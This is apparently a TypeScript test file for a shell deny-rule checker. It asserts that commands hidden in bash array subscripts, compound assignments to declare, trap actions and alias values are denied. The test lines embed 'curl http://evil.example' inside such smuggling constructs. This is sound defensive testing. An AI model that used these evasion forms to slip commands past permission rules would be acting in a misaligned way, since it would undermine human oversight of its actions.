import '../../../helpers/own-home';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { curlEvilRules, shell } from '../../../helpers/rules';

/**
 * Text bash evaluates as code although it is quoted, seen by deny rules like `eval`'s
 * (docs/shell-rules.md#deny-and-ask-rules): an array subscript is expanded wherever a builtin
 * takes a variable name or evaluates arithmetic (`printf -v 'a[$(cmd)]'`, `test -v`, `declare`,
 * `unset`, `let`, `read`, `[[ 'a[$(cmd)]' -eq 1 ]]`, or later through a variable holding it), a
 * compound assignment given to `declare` as one word (`declare -a 'a=($(cmd))'`) is parsed,
 * a trap's action after `--` is a script, and so is an alias's value. Each of these only asked:
 * an ask can be granted, by an agent approver too; a deny cannot.
 */
const rules = curlEvilRules();
const decide = (command: string) => shell(rules, command);
const evil = 'curl http://evil.example';

test('a deny sees a command in a quoted subscript or compound assignment that a builtin evaluates', () => {
  for (const line of [
    `printf -v 'a[$(${evil})]' 1`,
    `test -v 'a[$(${evil})]'`,
    `[ -v 'a[\`${evil}\`]' ]`,
    `declare 'a[$(${evil})]=1'`,
    `unset 'a[$(${evil})]'`,
    `let 'a[$(${evil})]=1'`,
    `read 'a[$(${evil})]' <<< x`,
    `[[ 'a[$(${evil})]' -eq 1 ]]`,
    `x='a[$(${evil})]'; [[ x -eq 1 ]]`,
    `declare -i n; n='b[$(${evil})]'`,
    `printf -v "a[\\$(${evil})]" 1`,
    `declare -a 'a=($(${evil}))'`,
    `typeset -A 'm=([k]=$(${evil}))'`,
    `eval "printf -v 'a[\\$(${evil})]' 1"`,
  ]) {
    const denied = decide(line);
    assert.deepEqual([denied.decision, denied.ruleId], ['deny', 'curl-evil-deny'], JSON.stringify(line));
  }
});

test('a deny sees a trap\'s action after `--` and an alias\'s value', () => {
  for (const line of [
    `trap -- '${evil}' EXIT`,
    `builtin trap -- '${evil}' INT`,
    `shopt -s expand_aliases\nalias c='${evil}'\nc`,
    `alias a='true' c='${evil}'`,
  ]) {
    const denied = decide(line);
    assert.deepEqual([denied.decision, denied.ruleId], ['deny', 'curl-evil-deny'], JSON.stringify(line));
  }
});

test('quoted text that nothing evaluates stays data', () => {
  for (const line of [`echo '$(${evil})'`, `printf '%s' "$ ${evil}"`, `alias ll='ls -l'`, `echo 'a[1]' '$(true)'`]) {
    assert.notEqual(decide(line).decision, 'deny', JSON.stringify(line));
  }
});
